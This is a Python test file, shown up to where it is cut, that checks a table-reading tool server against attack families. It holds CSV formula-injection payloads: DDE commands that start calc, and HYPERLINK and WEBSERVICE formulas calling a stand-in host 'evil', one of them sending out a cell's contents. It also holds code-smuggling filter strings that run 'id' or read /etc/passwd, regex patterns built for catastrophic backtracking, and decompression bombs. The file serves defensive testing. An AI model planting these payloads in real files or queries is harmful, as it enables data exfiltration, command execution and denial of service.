"""Rows G as families: many files, or many columns of one, by one client."""

from __future__ import annotations

import asyncio
import bz2
import gzip
import io
import json
import re
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pytest

from support.variants import tried
from tooltrue import Client, Server
from tooltrue.client.call_results import Result
from tooltrue.errors import ToolError
from tooltrue_toolbox.tables.decompression import Packing, UnpackingBounds, unpack
from tooltrue_toolbox.tables.layout import TableLimits
from tooltrue_toolbox.tables.table_tools import toolset
from unit.toolbox.test_workbooks import book

SMALL = TableLimits(row_bytes=10_000, columns=50, groups=10, bounds=UnpackingBounds(size=8 << 20, free=1 << 20))

Call = tuple[str, Mapping[str, Any]]


def answers(root: Path, calls: Iterable[Call], limits: TableLimits | None = None) -> list[Result[Any]]:
    """The results that one client receives, one per call."""

    async def main() -> list[Result[Any]]:
        async with Client(Server("tables", toolsets=[toolset([root], limits=limits)])) as client:
            return [await client.call_tool(name, arguments) for name, arguments in calls]

    return asyncio.run(main())


def written(root: Path, files: Mapping[str, bytes]) -> list[str]:
    """The names of the files, in their order."""
    for name, content in files.items():
        (root / name).write_bytes(content)
    return list(files)


def code_of(root: Path, result: Result[Any]) -> str:
    """The code of a refusal; its text must not name the folder, and it must not be a crash."""
    assert result.is_error, result.text
    assert str(root) not in result.text
    found = re.search(r"\[(TT63\d\d)\]$", result.text)
    assert found, result.text
    return found[1]


# -- the same table in many forms --------------------------------------------------------------------------------------


def rows_as_csv(rows: list[list[str]], delimiter: str = ",") -> str:
    quoted = (delimiter.join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows)
    return "\n".join(quoted) + "\n"


def rows_as_objects(rows: list[list[str]]) -> list[dict[str, str]]:
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def rows_as_book(rows: list[list[str]], root: Path) -> bytes:
    """A workbook with texts only, those that begin like a formula too."""
    path = book(root / "made.xlsx", Data=rows)
    made = openpyxl.load_workbook(path)
    for row in made["Data"].iter_rows():
        for cell in row:
            cell.data_type = "s"
    made.save(path)
    return path.read_bytes()


FORMS: Mapping[str, Callable[[list[list[str]], Path], bytes]] = {
    "comma.csv": lambda rows, _: rows_as_csv(rows).encode(),
    "semicolon.csv": lambda rows, _: rows_as_csv(rows, ";").encode(),
    "tab.tsv": lambda rows, _: rows_as_csv(rows, "\t").encode(),
    "utf-16.csv": lambda rows, _: rows_as_csv(rows).encode("utf-16"),
    "packed.csv.gz": lambda rows, _: gzip.compress(rows_as_csv(rows).encode()),
    "lines.jsonl": lambda rows, _: "".join(json.dumps(row) + "\n" for row in rows_as_objects(rows)).encode(),
    "array.json": lambda rows, _: json.dumps({"rows": rows_as_objects(rows)}).encode(),
    "book.xlsx": rows_as_book,
}


def in_all_forms(root: Path, rows: list[list[str]]) -> list[str]:
    return written(root, {name: made(rows, root) for name, made in FORMS.items()})


# -- G01: formulas -----------------------------------------------------------------------------------------------------

FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"https://evil/?d=\"&A1, \"here\")",
    "=IMPORTXML(\"https://evil\", \"//a\")",
    "=WEBSERVICE(\"https://evil\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=@SUM(1)",
    "==1",
    "= 1+1",
    "={1;2}",
    "=\"a\"",
    "=-1",
    "=1",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "+SUM(1)",
    "+A1",
    "+1-2",
    "++1",
    "-1+1",
    "-2+3+cmd|'/C calc'!D2",
    "-A1",
    "--1",
    "-(1)",
    "-@SUM(1)",
    "@SUM(1)",
    "@A1",
    "@cmd|'/C calc'!A0",
    "\t=1+1",
    "\tcmd",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
)  # fmt: skip
NO_FORMULAS = (
    "-1", "+2.5", "-1e3", "-1,234.50", "-12 %", "-€5", "- 5", "5-", "\u22125", "(12)", "a=b", "a@b.example", "1+1",
    "'=1+1", "#tag", "2026-11-23", "x-y", " =1+1", "｛＝｝", "÷1", "*bold*", "/path", "&c", "!important", "％",
)  # fmt: skip


@pytest.mark.attack("G01")
@pytest.mark.variants(len(FORMULAS))
@pytest.mark.parametrize("form", FORMS)
def test_g01_each_cell_that_a_spreadsheet_would_run_is_counted(tmp_path: Path, form: str) -> None:
    names = [f"c{number}" for number in range(len(FORMULAS))]
    name, content = form, FORMS[form]([names, list(FORMULAS)], tmp_path)
    written(tmp_path, {name: content})
    described, asked = answers(tmp_path, [("describe_csv", {"path": name}), ("query_csv", {"path": name})])
    for column, formula in zip(described.value["columns"], FORMULAS, strict=True):
        tried(formula)
        assert column.get("formulas") == 1, formula
    assert asked.value["formulas"] == len(FORMULAS)


@pytest.mark.attack("G01")
@pytest.mark.variants(20)
def test_g01_a_name_of_a_column_that_a_spreadsheet_would_run_is_counted(tmp_path: Path) -> None:
    names = [formula for formula in FORMULAS if formula[0].isprintable()]
    written(tmp_path, {"t.csv": rows_as_csv([names, ["x"] * len(names)]).encode()})
    described, asked = answers(tmp_path, [("describe_csv", {"path": "t.csv"}), ("query_csv", {"path": "t.csv"})])
    for column in described.value["columns"]:
        tried(column["name"])
        assert column["formulas"] == 1
    assert asked.value["formulas"] == len(names)


@pytest.mark.parametrize("form", FORMS)
def test_g01_twin_cells_that_are_numbers_or_words_are_no_formulas(tmp_path: Path, form: str) -> None:
    names = [f"c{number}" for number in range(len(NO_FORMULAS))]
    written(tmp_path, {form: FORMS[form]([names, list(NO_FORMULAS)], tmp_path)})
    described, asked = answers(tmp_path, [("describe_csv", {"path": form}), ("query_csv", {"path": form})])
    assert [column["name"] for column in described.value["columns"] if "formulas" in column] == []
    assert "formulas" not in asked.value


# -- G02: a giant cell -------------------------------------------------------------------------------------------------

_BIG = "x" * 50_000
_OPEN = "x,y\n" * 10_000
GIANTS: Mapping[str, bytes] = {
    "quoted.csv": f'a,b\n1,2\n1,"{_BIG}"\n2,3\n'.encode(),
    "bare.csv": f"a,b\n1,2\n1,{_BIG}\n2,3\n".encode(),
    "lines.csv": ('a,b\n1,2\n1,"' + "x\n" * 25_000 + '"\n2,3\n').encode(),
    "crlf.csv": ('a,b\r\n1,2\r\n1,"' + "x\r\n" * 25_000 + '"\r\n2,3\r\n').encode(),
    "doubled.csv": ('a,b\n1,2\n1,"' + '""' * 25_000 + '"\n2,3\n').encode(),
    "delimiters.csv": ('a,b\n1,2\n1,"' + "," * 50_000 + '"\n2,3\n').encode(),
    "three-bytes.csv": ('a,b\n1,2\n1,"' + "数" * 25_000 + '"\n2,3\n').encode(),
    "four-bytes.csv": ('a,b\n1,2\n1,"' + "😀" * 12_500 + '"\n2,3\n').encode(),
    "spaces.csv": ('a,b\n1,2\n1,"' + " " * 50_000 + '"\n2,3\n').encode(),
    "digits.csv": ("a,b\n1,2\n1," + "9" * 50_000 + "\n2,3\n").encode(),
    "first.csv": f'a,b\n"{_BIG}",2\n'.encode(),
    "last.csv": f"a,b\n1,2\n3,{_BIG}".encode(),
    "behind-empty-lines.csv": f"\n\n\na,b\n1,{_BIG}\n".encode(),
    "tab.tsv": f'a\tb\n1\t2\n1\t"{_BIG}"\n'.encode(),
    "semicolon.csv": f'a;b\n1;2\n1;"{_BIG}"\n'.encode(),
    "pipe.csv": f'a|b\n1|2\n1|"{_BIG}"\n'.encode(),
    "utf-16.csv": f'a,b\n1,2\n1,"{_BIG}"\n'.encode("utf-16"),
    "chinese.csv": ('名称,数量\n北京,2\n上海,"' + "数据" * 25_000 + '"\n').encode("gb18030"),
    "western.csv": ('Café,b\n1,2\n1,"' + "é" * 50_000 + '"\n').encode("windows-1252"),
    "packed.csv.gz": gzip.compress(f'a,b\n1,2\n1,"{_BIG}"\n2,3\n'.encode()),
    "packed.csv.bz2": bz2.compress(f'a,b\n1,2\n1,"{_BIG}"\n2,3\n'.encode()),
    "open.csv": ('a,b\n1,2\n1,"open\n' + _OPEN).encode(),
    "open-header.csv": ('a,"b\n' + _OPEN).encode(),
    "open-doubled.csv": ('a,b\n1,"x""\n' + _OPEN).encode(),
    "open-tab.tsv": ('a\tb\n1\t2\n1\t"open\n' + _OPEN.replace(",", "\t")).encode(),
    "open-utf-16.csv": ('a,b\n1,2\n1,"open\n' + _OPEN).encode("utf-16"),
    "open-packed.csv.gz": gzip.compress(('a,b\n1,2\n1,"open\n' + _OPEN).encode()),
    "open-end.csv": ("a,b\n" + _OPEN + '1,"open').encode(),
    "text.jsonl": f'{{"a":1}}\n{{"a":"{_BIG}"}}\n'.encode(),
    "escaped.jsonl": ('{"a":1}\n{"a":"' + "\\u0078" * 10_000 + '"}\n').encode(),
    "nested.jsonl": f'{{"a":1}}\n{{"a":{{"b":"{_BIG}"}}}}\n'.encode(),
    "list.jsonl": ('{"a":1}\n{"a":[' + "1," * 25_000 + "1]}\n").encode(),
    "name.jsonl": f'{{"a":1}}\n{{"{_BIG}":1}}\n'.encode(),
    "number.jsonl": ('{"a":1}\n{"a":' + "9" * 50_000 + "}\n").encode(),
    "spaces.jsonl": ('{"a":1}\n{"a":' + " " * 50_000 + "1}\n").encode(),
    "last.jsonl": ('{"a":1}\n' * 2000 + f'{{"a":"{_BIG}"}}').encode(),
    "utf-16.jsonl": f'{{"a":1}}\n{{"a":"{_BIG}"}}\n'.encode("utf-16"),
    "packed.jsonl.gz": gzip.compress(f'{{"a":1}}\n{{"a":"{_BIG}"}}\n'.encode()),
    "deep.jsonl": ('{"a":1}\n{"a":' + "[" * 20_000 + "]" * 20_000 + "}\n").encode(),
    "open.jsonl": b'{"a":1}\n{"a":"open\n',
    "array.json": f'[{{"a":1}},{{"a":"{_BIG}"}}]'.encode(),
    "object.json": f'{{"rows":[{{"a":1}},{{"a":"{_BIG}"}}]}}'.encode(),
    "open.json": f'[{{"a":1}},{{"a":"{_BIG}'.encode(),
}
"""A row of 50,000 bytes and more, where 10,000 may be; or a quote that is never closed."""


@pytest.mark.attack("G02")
@pytest.mark.variants(len(GIANTS))
def test_g02_no_giant_cell_and_no_open_quote_is_read(tmp_path: Path) -> None:
    names = written(tmp_path, GIANTS)
    for name, result in zip(
        names, answers(tmp_path, [("describe_csv", {"path": name}) for name in names], SMALL), strict=True
    ):
        tried(name)
        assert code_of(tmp_path, result) in ("TT6317", "TT6318", "TT6327", "TT6338", "TT6345"), name


def test_g02_twin_rows_as_long_as_they_may_be_are_read(tmp_path: Path) -> None:
    text = "x" * 9_900
    files = {
        "t.csv": f'a,b\n1,2\n1,"{text}"\n'.encode(),
        "t.jsonl": f'{{"a":1}}\n{{"a":"{text}"}}\n'.encode() * 200,
        "t.jsonl.gz": gzip.compress(f'{{"a":1}}\n{{"a":"{text}"}}\n'.encode() * 2),
        "t.json": f'[{{"a":1}},{{"a":"{text}"}}]'.encode(),
    }
    results = answers(tmp_path, [("describe_csv", {"path": name}) for name in written(tmp_path, files)], SMALL)
    assert [result.value["rows"] for result in results] == [2, 400, 4, 2]


def test_g02_the_line_of_an_object_that_is_too_long_is_told(tmp_path: Path) -> None:
    files = {"t.jsonl": b'{"a":1}\n' * 400_000 + f'{{"a":"{_BIG}"}}\n'.encode() + b'{"a":1}\n' * 9}
    [result] = answers(tmp_path, [("describe_csv", {"path": name}) for name in written(tmp_path, files)], SMALL)
    assert "line 400001 of t.jsonl is longer than 10000 bytes" in result.text


# -- G03: a giant table ------------------------------------------------------------------------------------------------

_NAMES = [f"c{number}" for number in range(60)]
_TABLE = ",".join(_NAMES) + "\n" + ",".join("1" * 60) + "\n"
_OBJECT = json.dumps(dict.fromkeys(_NAMES, 1))
WIDE: Mapping[str, bytes] = {
    "comma.csv": _TABLE.encode(),
    "tab.tsv": _TABLE.replace(",", "\t").encode(),
    "semicolon.csv": _TABLE.replace(",", ";").encode(),
    "pipe.csv": _TABLE.replace(",", "|").encode(),
    "crlf.csv": _TABLE.replace("\n", "\r\n").encode(),
    "cr.csv": _TABLE.replace("\n", "\r").encode(),
    "mark.csv": _TABLE.encode("utf-8-sig"),
    "utf-16.csv": _TABLE.encode("utf-16"),
    "utf-16-le.csv": _TABLE.encode("utf-16-le"),
    "utf-16-be.csv": _TABLE.encode("utf-16-be"),
    "chinese.csv": _TABLE.replace("c", "列").encode("gb18030"),
    "western.csv": _TABLE.replace("c", "é").encode("windows-1252"),
    "packed.csv.gz": gzip.compress(_TABLE.encode()),
    "packed.csv.bz2": bz2.compress(_TABLE.encode()),
    "quoted.csv": rows_as_csv([_NAMES, ["1"] * 60]).encode(),
    "nameless.csv": ("," * 59 + "\n" + ",".join("1" * 60) + "\n").encode(),
    "one-name.csv": (",".join(["a"] * 60) + "\n" + ",".join("1" * 60) + "\n").encode(),
    "header-alone.csv": ",".join(_NAMES).encode(),
    "behind-empty-lines.csv": f"\n\n{_TABLE}".encode(),
    "delimiters.csv": b"," * 1_000_000,
    "object.jsonl": f"{_OBJECT}\n".encode(),
    "growing.jsonl": "".join(f'{{"k{number}": 1}}\n' for number in range(60)).encode(),
    "empty.jsonl": (json.dumps(dict.fromkeys(_NAMES)) + "\n").encode(),
    "utf-16.jsonl": f"{_OBJECT}\n".encode("utf-16"),
    "packed.jsonl.gz": gzip.compress(f"{_OBJECT}\n".encode()),
    "array.json": f"[{_OBJECT}]".encode(),
    "growing.json": json.dumps([{name: 1} for name in _NAMES]).encode(),
    "object.json": f'{{"rows": [{_OBJECT}]}}'.encode(),
}


@pytest.mark.attack("G03")
@pytest.mark.variants(len(WIDE))
@pytest.mark.parametrize("tool", ["describe_csv", "query_csv"])
def test_g03_no_form_of_a_table_with_too_many_columns_is_read(tmp_path: Path, tool: str) -> None:
    names = written(tmp_path, WIDE)
    for name, result in zip(names, answers(tmp_path, [(tool, {"path": name}) for name in names], SMALL), strict=True):
        tried(name)
        assert code_of(tmp_path, result) == "TT6316", name


@pytest.mark.attack("G03")
def test_g03_nor_a_workbook(tmp_path: Path) -> None:
    written(tmp_path, {"t.xlsx": rows_as_book([_NAMES, ["1"] * 60], tmp_path)})
    [result] = answers(tmp_path, [("describe_csv", {"path": "t.xlsx"})], SMALL)
    assert code_of(tmp_path, result) == "TT6316"


def test_g03_twin_as_many_columns_as_there_may_be_are_read(tmp_path: Path) -> None:
    files = {
        "t.csv": _TABLE.replace(",c50", "\nc50", 1).encode(),
        "t.jsonl": json.dumps(dict.fromkeys(_NAMES[:50], 1)).encode(),
    }
    results = answers(tmp_path, [("describe_csv", {"path": name}) for name in written(tmp_path, files)], SMALL)
    assert [result.value["column_count"] for result in results] == [50, 50]


# -- G04: encodings ----------------------------------------------------------------------------------------------------

_PLAIN = "a,b\n1,2\n"
NO_TEXT: Mapping[str, bytes] = {
    "in-a-cell.csv": b"a,b\n1,\0\n",
    "in-front.csv": b"\0a,b\n1,2\n",
    "alone.csv": b"\0" * 100,
    "in-a-name.csv": b"a\0,b\n1,2\n",
    "in-quotes.csv": b'a,b\n"\0",2\n',
    "in-json.jsonl": b'{"a":"\0"}\n',
    "packed.csv.gz": gzip.compress(b"a,b\n1,\0\n"),
    "in-utf-16.csv": "a,b\n1,\0\n".encode("utf-16"),
    "late-in-utf-16.csv": ("a,b\n" + "x,y\n" * 200_000 + "1,\0\n").encode("utf-16"),
    "utf-32.csv": _PLAIN.encode("utf-32"),
    "utf-32-le.csv": _PLAIN.encode("utf-32-le"),
    "utf-32-be.csv": _PLAIN.encode("utf-32-be"),
    "utf-32.csv.gz": gzip.compress(_PLAIN.encode("utf-32")),
    "utf-32.jsonl": b'{"a": 1}\n'.decode().encode("utf-32"),
    "program.csv": b"\x7fELF\2\1\1" + b"\0" * 50,
    "program.exe": b"MZ\x90\0\3\0\0\0",
    "module.wasm": b"\0asm\1\0\0\0",
    "code.class": b"\xca\xfe\xba\xbe\0\0\0\x37",
    "picture.png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    "picture.jpg": b"\xff\xd8\xff\xe0\0\x10JFIF\0",
    "picture.gif": b"GIF89a\1\0\1\0\0",
    "page.pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\0",
    "database.csv": b"SQLite format 3\0\x10\0\1\1",
    "archive.zip": b"PK\x03\x04rest",
    "archive.7z": b"7z\xbc\xaf\x27\x1c",
    "archive.rar": b"Rar!\x1a\x07\0",
    "archive.xz": b"\xfd7zXZ\0",
    "archive.tar": b"a.txt" + b"\0" * 95 + b"0000644\0",
    "old.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "broken.parquet": b"PAR1xxxx",
    "broken.csv.gz": b"\x1f\x8b\x08\0rest of it",
    "broken.csv.bz2": b"BZh91AY&SYrest",
    "odd-utf-16.csv": _PLAIN.encode("utf-16") + b"x",
    "half-utf-16.csv": b"\xff\xfe" + "a,b\n".encode("utf-16-le") + b"\0\xd8" + b"1\0\n\0",
    "marked-utf-8.csv": b"\xef\xbb\xbfa,b\n\xff\xfe,2\n",
    "nothing.csv": b"",
    "spaces.csv": b" \n\t\n",
    "mark-alone.csv": b"\xef\xbb\xbf",
    "wide-mark-alone.csv": b"\xff\xfe",
}


@pytest.mark.attack("G04")
@pytest.mark.variants(len(NO_TEXT))
@pytest.mark.parametrize("tool", ["describe_csv", "query_csv"])
def test_g04_a_file_that_is_not_text_is_no_table(tmp_path: Path, tool: str) -> None:
    names = written(tmp_path, NO_TEXT)
    for name, result in zip(names, answers(tmp_path, [(tool, {"path": name}) for name in names]), strict=True):
        tried(name)
        assert code_of(tmp_path, result) in ("TT6310", "TT6311", "TT6313", "TT6314", "TT6319", "TT6342"), name


# -- G05: headers and rows that do not fit -----------------------------------------------------------------------------

UNFIT: Mapping[str, tuple[str, int]] = {
    "short": ("a,b\n1,2\n3\n", 1),
    "long": ("a,b\n1,2\n3,4,5\n", 1),
    "both": ("a,b\n1\n1,2\n3,4,5\n", 2),
    "much-longer": ("a,b\n1,2\n" + "3," * 400 + "3\n", 1),
    "all": ("a,b\n1\n2\n3\n", 3),
    "tab": ("a\tb\n1\t2\n3\n4\t5\t6\n", 2),
    "semicolon": ("a;b\n1;2\n3\n4;5;6\n", 2),
    "pipe": ("a|b\n1|2\n3\n4|5|6\n", 2),
    "crlf": ("a,b\r\n1,2\r\n3\r\n4,5,6\r\n", 2),
    "cr": ("a,b\r1,2\r3\r4,5,6\r", 2),
    "no-end": ("a,b\n1,2\n3", 1),
    "quoted": ('a,b\n"1","2"\n"3"\n"4","5","6"\n', 2),
    "lines": ('a,b\n"1\n1","2\n2"\n"3\n3"\n', 1),
    "first": ("a,b\n1\n2,3\n4,5\n", 1),
    "footer": ("a,b\n1,2\n3,4\nTotal: 2 rows\n", 1),
    "sparse": ("a,b\n" + "1,2\n" * 500 + "3\n" + "1,2\n" * 500 + "4,5,6\n", 2),
    "wide-header": ("a,b,c,d\n1,2\n3,4\n5,6,7,8\n", 2),
    "double-names": ("a,a\n1,2\n3\n", 1),
    "empty-names": ("a,\n1,2\n3\n", 1),
    "chinese": ("名称,数量\n北京,2\n上海\n", 1),
    "spaces": ("a,b\n1,2\n \n3,4\n", 1),
}


@pytest.mark.attack("G05")
@pytest.mark.variants(len(UNFIT))
def test_g05_each_row_that_does_not_fit_is_counted(tmp_path: Path) -> None:
    names = written(tmp_path, {f"{name}.csv": text.encode() for name, (text, _) in UNFIT.items()})
    calls = [("query_csv", {"path": name, "limit": 1000}) for name in names]
    for (name, (text, unfit)), result in zip(UNFIT.items(), answers(tmp_path, calls), strict=True):
        tried(name)
        assert "skipped" in result.value, name
        skipped = result.value["skipped"]
        assert (skipped["rows"], len(skipped["first"])) == (unfit, min(unfit, 5)), name
        assert all(row["problem"] and 1 < row["line"] <= len(text) for row in skipped["first"]), name


# -- G06: a filter that is code ----------------------------------------------------------------------------------------

CODE = (
    "@__import__('os').system('id')", "__import__('os')", "a.__class__", "a['b'] = 1", "a[0] = 1", "lambda: 1",
    "eval('1')", "exec('1') = 1", "f'{a}' = 1", "a := 1", "a == 1 or eval('1')", "open('/etc/passwd')", "a.b = 1",
    "a = 1; drop table t", "a = 1;", "; a = 1", "a = (select 1)", "a in (select 1)", "exists (select 1)",
    "a = 1 union select 1", "a = 1 -- c", "a = 1 /* c */", "/* c */ a = 1", "a = 1 # c", "a = upper('x')",
    "upper(a) = 'x'", "a = getenv('HOME')", "read_text('/etc/passwd') = 'x'", "a = b", "a = 1 + 1", "1 = 1",
    "true", "a", "a = $1", "a = ?", "a = :name", "a = @x", "a = x'00'", "a = 'x' || 'y'", "a::integer = 1",
    "cast(a as integer) = 1", "a between 1 and 2", "case when 1 then 1 end", "a = null", "a is null or 1", "a = `b`",
    "a = \\x00", "a = 1 limit 1", "a = 1 order by a", "a = 1) or (1 = 1", "(a = 1", "a = 'open", "a ~ 'x'",
    "a ilike 'x'", "a glob 'x'", "a regexp 'x'", "a = 1 & 1", "not", "and a = 1", "{{7*7}}", "a = 1 a = 2",
)  # fmt: skip


@pytest.mark.attack("G06")
@pytest.mark.variants(len(CODE))
def test_g06_code_is_not_read_as_a_filter(tmp_path: Path) -> None:
    written(tmp_path, {"t.csv": b"a,b\n1,2\n"})
    calls = [("query_csv", {"path": "t.csv", "filter": code}) for code in CODE]
    for code, result in zip(CODE, answers(tmp_path, calls), strict=True):
        tried(code)
        assert code_of(tmp_path, result) in ("TT6321", "TT6322", "TT6323", "TT6324"), code


# -- G07: guessing -----------------------------------------------------------------------------------------------------

CONFUSING = tuple(
    (sign * (1 << 16))[: 1 << 16]
    for sign in (
        '",;\t|',
        ",;\t|\n",
        '"',
        '"\n',
        ',"',
        '"",',
        "'",
        ";",
        ",\n;\n",
        "a,b;c\td|e\n",
        'a"b"c,',
        '"a\n',
        "\r",
        "\r\n,",
        " ,",
        '" ,"',
        '","',
        "|;",
        "\\,",
        '\\"',
        "a\tb,c\n",
        '"a""',
        "数,",
        "\u2028,",
    )
)


@pytest.mark.attack("G07")
@pytest.mark.variants(len(CONFUSING))
def test_g07_a_beginning_made_to_confuse_has_an_answer(tmp_path: Path) -> None:
    files = {f"t{number}.csv": text.encode() for number, text in enumerate(CONFUSING)}
    calls = [("query_csv", {"path": name, "limit": 1}) for name in written(tmp_path, files)]
    for text, result in zip(CONFUSING, answers(tmp_path, calls, SMALL), strict=True):
        tried(text[:8])
        assert not result.is_error or code_of(tmp_path, result), text[:8]


# -- G08: bombs --------------------------------------------------------------------------------------------------------

PACKERS: Mapping[Packing, Callable[[bytes], bytes]] = {"gzip": gzip.compress, "bzip2": bz2.compress}
BOMBS: Mapping[str, bytes] = {
    "zeros": b"\0" * (1 << 20),
    "spaces": b" " * (1 << 20),
    "line ends": b"\n" * (1 << 20),
    "delimiters": b"," * (1 << 20),
    "quotes": b'"' * (1 << 20),
    "one row": b"a,b\n" + b"x" * (1 << 20),
    "rows": b"a,b\n" + b"x,y\n" * (1 << 18),
    "objects": b'{"a":1}\n' * (1 << 17),
    "brackets": b"[" * (1 << 20),
}


@pytest.mark.attack("G08")
@pytest.mark.variants(2 * len(BOMBS))
@pytest.mark.parametrize("packing", PACKERS)
def test_g08_no_filling_unpacks_without_end(packing: Packing) -> None:
    bounds = UnpackingBounds(size=4 << 20, free=1 << 18)
    for name, filling in BOMBS.items():
        once = PACKERS[packing](filling)
        for packed in (once, once * 40):  # of one part, and of many
            tried((name, len(packed)))
            sizes = list[int]()
            with pytest.raises(ToolError) as stopped:
                sizes.extend(map(len, unpack(io.BytesIO(packed), packing, "t.csv", bounds)))
            assert stopped.value.code == "TT6312", name
            assert sum(sizes) <= 4 << 20, name


# -- G09: patterns in a filter -----------------------------------------------------------------------------------------

SLOW = (
    "(a+)+$", "(a*)*$", "(a|a)*$", "(a|aa)+$", "(.*)*x", "([a-z]+)*0", "(a?){30}a{30}x", "(.+)+x", "(\\w+\\s?)+x",
    "^(([a-z])+.)+[A-Z]([a-z])+$", "(a+){2,}x", "((a+)+)+x", "(a|b|ab)*c", "(.*a){20}x", "(x+x+)+y", "(aa|a)*b",
    "(?:a+)+b", "(?i:A+)+b", "[a-z]*[a-z]*[a-z]*[a-z]*0", "(a*)+(a*)+(a*)+0", "(\\D+|<\\d+>)*[!?]", "a*?a*?a*?a*?a*?0",
)  # fmt: skip
UNFIT_PATTERNS = (
    "((a{100}){100}){100}", "(a)\\1", "(?=a)", "(?!a)", "(?<=a)b", "(?<!a)b", "(?>a+)b", "a++b", "(?P=n)", "[", "(",
    "*", "(?R)", "(?(1)a|b)", "\\k<n>", "a{1001}", "(?#c)a", "\\g{1}", "\\K", "(?|a|b)", "\\p{Nothing}",
)  # fmt: skip


@pytest.mark.attack("G09")
@pytest.mark.variants(len(SLOW))
def test_g09_each_pattern_takes_linear_time(tmp_path: Path) -> None:
    """An engine that goes back would not end any of them within the time limit of the test."""
    written(tmp_path, {"t.csv": b"a\n" + b"a" * 20_000 + b"!\n"})
    calls = [("query_csv", {"path": "t.csv", "filter": f"a matches '^{pattern}$'"}) for pattern in SLOW]
    for pattern, result in zip(SLOW, answers(tmp_path, calls), strict=True):
        tried(pattern)
        assert result.value["rows"] == [] or "!" in pattern or "\\D" in pattern, pattern


@pytest.mark.attack("G09")
@pytest.mark.variants(20)
def test_g09_a_pattern_that_no_linear_engine_has_is_refused(tmp_path: Path) -> None:
    written(tmp_path, {"t.csv": b"a\nb\n"})
    calls = [("query_csv", {"path": "t.csv", "filter": f"a matches '{pattern}'"}) for pattern in UNFIT_PATTERNS]
    for pattern, result in zip(UNFIT_PATTERNS, answers(tmp_path, calls), strict=True):
        tried(pattern)
        assert code_of(tmp_path, result) == "TT6325", pattern


# -- G10: numbers ------------------------------------------------------------------------------------------------------

NO_NUMBERS = (
    "1e999", "-1e999", "0x10", "0b11", "0o17", "1_000", "007", "00", "1,00,0", "1,,000", "NaN", "nan", "inf",
    "１２", "١٢", "--1", "+-1", "1.2.3", "1..2", "1e", "e5", "1e+", "1e1.5", ".", "-", "1 2 3", "½", "²", "Ⅻ", "1/2",
    "1:30", "2026-11-23", "10.0.0.1", "1f", "1L", "1d5", "#1", "1;", "TRUE", "null", "None", "#N/A", "=1", "one", "一",
)  # fmt: skip


@pytest.mark.attack("G10")
@pytest.mark.variants(len(NO_NUMBERS))
def test_g10_a_cell_that_only_resembles_a_number_stays_text(tmp_path: Path) -> None:
    """Each stands between two numbers in a column of its own."""
    names = [f"c{number}" for number in range(len(NO_NUMBERS))]
    ones, twos = ["1"] * len(names), ["2"] * len(names)
    written(tmp_path, {"t.csv": rows_as_csv([names, ones, list(NO_NUMBERS), twos]).encode()})
    summed = {"path": "t.csv", "operations": ["sum"], "columns": names[:20]}
    asked, *sums = answers(
        tmp_path,
        [("query_csv", {"path": "t.csv"})]
        + [("analyze_csv", {**summed, "columns": names[at : at + 10]}) for at in range(0, len(names), 10)],
    )
    assert asked.value["rows"] == [ones, list(NO_NUMBERS), twos]
    found = {name: told["sum"] for result in sums for name, told in result.value["groups"][0]["values"].items()}
    for name, cell in zip(names, NO_NUMBERS, strict=True):
        tried(cell)
        assert found[name] == 3, cell


# -- G11: groups without end -------------------------------------------------------------------------------------------

KEYS: dict[str, Callable[[int], str]] = {
    "text": lambda n: f"a key of many letters, the {n}th",
    "number": lambda n: str(10**15 + n),
    "decimal": lambda n: f"{n}.{n % 97:02}",
    "negative": lambda n: f"-{10**15 + n}",
    "hash": lambda n: f"{n * 2654435761 % 2**64:032x}",
    "second": lambda n: f"{1900 + n % 150}-{n // 150 % 12 + 1:02}-{n // 1800 % 28 + 1:02} {n // 50400:02}:00:00",
    "letters": lambda n: "".join(chr(0x4E00 + n // 1000**digit % 1000) for digit in range(8)),
    "nearly": lambda n: "x" * 60 + f"{n:x}",
    "spaces": lambda n: f"{n:b}".replace("0", " ").replace("1", "_"),
    "case": lambda n: "".join(sign.upper() if n >> at & 1 else sign for at, sign in enumerate("abcdefghijklmnopqrs")),
    "one": lambda n: f"one of few {n % 50}",
    "two": lambda n: f"one of few {n // 50 % 50}",
    "three": lambda n: f"one of few {n // 2500 % 50}",
    "four": lambda n: f"one of few {n // 125000}",
    "day": lambda n: f"{n % 3000 + 1000}-{n // 3000 % 12 + 1:02}-{n // 36000 % 28 + 1:02}",
    "figure": lambda n: str(n % 1000),
}
MANY = 120_000

GROUPED: dict[str, Call] = {
    **{f"by {name}": ("analyze_csv", {"operations": ["count"], "columns": ["figure"], "group_by": [name]})
       for name in ("text", "number", "decimal", "negative", "hash", "second", "letters", "nearly", "spaces", "case")},
    "by four columns of few values": (
        "analyze_csv", {"operations": ["sum"], "columns": ["figure"], "group_by": ["one", "two", "three", "four"]}),
    "by a column and the same again": (
        "analyze_csv", {"operations": ["sum"], "columns": ["figure"], "group_by": ["hash", "hash"]}),
    "by days and few values": (
        "analyze_csv", {"operations": ["sum"], "columns": ["figure"], "group_by": ["day:day", "one"]}),
    "by a unit of time that fits no cell": (
        "analyze_csv", {"operations": ["sum"], "columns": ["figure"], "group_by": ["text:month"]}),
    "of which one is wanted": (
        "analyze_csv", {"operations": ["max"], "columns": ["figure"], "group_by": ["text"], "top": 1}),
    "of which the last are wanted": (
        "analyze_csv", {"operations": ["count"], "columns": ["figure"], "group_by": ["text"], "start_group": 900}),
    "sorted by their values": (
        "analyze_csv", {"operations": ["sum"], "columns": ["figure"], "group_by": ["text"], "sort": "value"}),
    "sorted by their keys": (
        "analyze_csv", {"operations": ["sum"], "columns": ["figure"], "group_by": ["text"], "sort": "key"}),
    "with different values counted": (
        "analyze_csv", {"operations": ["distinct"], "columns": ["hash"], "group_by": ["number"]}),
    "with quantiles": (
        "analyze_csv", {"operations": ["median", "p90"], "columns": ["figure"], "group_by": ["number"]}),
    "with all operations": (
        "analyze_csv", {"operations": ["count", "sum", "average", "min", "max", "median", "stddev"],
